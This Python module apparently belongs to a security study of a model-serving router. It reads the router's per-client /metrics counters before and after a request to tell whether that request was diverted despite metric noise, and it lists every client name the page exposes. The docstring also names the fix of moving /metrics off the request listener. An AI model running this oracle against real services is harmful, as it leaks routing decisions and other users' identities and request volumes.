"""Reading a router's /metrics as a per-request oracle.

The router counts, per client, requests that count towards goodput and those that were good (served by a model
meeting the client's ORIGINAL requirements within its latency bound). Read before and after one request of
its own, the attacker learns whether that request was diverted: under metric noise a request at a victim's
specification that the noise pushed to another model shows as counted-but-not-good. That is exactly the
signal the noise was meant to hide (measured on the default zoo under metric noise: 40 of 40 requests
classified right, 8 of them diversions). The same page names every client with its volume.

Once /metrics is off the request listener (its own loopback listener, or a token) the scrape answers 404 and
the attack has nothing to read: ``read_counters`` raises MetricsUnavailable.
"""

from __future__ import annotations

import re
import urllib.error
import urllib.request

from common.errors import PsmlError
from stack.clients import RouterClient, RouterRejected

COUNTER = re.compile(r'^psml_(good|counted)_requests_total\{client="([^"]*)"\} ([0-9.e+]+)$', re.M)


class MetricsUnavailable(PsmlError):
    """The router does not show its metrics to this client."""


def read_counters(metrics_url: str, client: str, headers: dict | None = None) -> tuple[float, float]:
    """(good, counted) for ``client`` as the metrics page shows them now."""
    req = urllib.request.Request(metrics_url, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            text = r.read().decode()
    except urllib.error.HTTPError as e:
        raise MetricsUnavailable(f"{metrics_url} answered {e.code}") from e
    found = {(kind, who): float(v) for kind, who, v in COUNTER.findall(text)}
    return found.get(("good", client), 0.0), found.get(("counted", client), 0.0)


def diverted(client: RouterClient, metrics_url: str, me: str, x, min_accuracy: float | None,
             max_latency_ms: float | None, headers: dict | None = None) -> bool | None:
    """Send one request; True when /metrics says it was not served as asked (diverted, rejected, too slow),
    False when it was, None when the request did not count (e.g. refused before selection). ``headers``: what
    the scrape sends (a leaked metrics token)."""
    good0, counted0 = read_counters(metrics_url, me, headers)
    try:
        client.infer(x, min_accuracy, max_latency_ms)
    except RouterRejected:
        pass
    good1, counted1 = read_counters(metrics_url, me, headers)
    if counted1 == counted0:
        return None
    return good1 == good0


def client_names(metrics_url: str) -> set[str]:
    """Every client the page names: what an outsider learns about the service's other users."""
    req = urllib.request.Request(metrics_url)
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            text = r.read().decode()
    except urllib.error.HTTPError as e:
        raise MetricsUnavailable(f"{metrics_url} answered {e.code}") from e
    return set(re.findall(r'client="([^"]*)"', text)) - {"overall"}
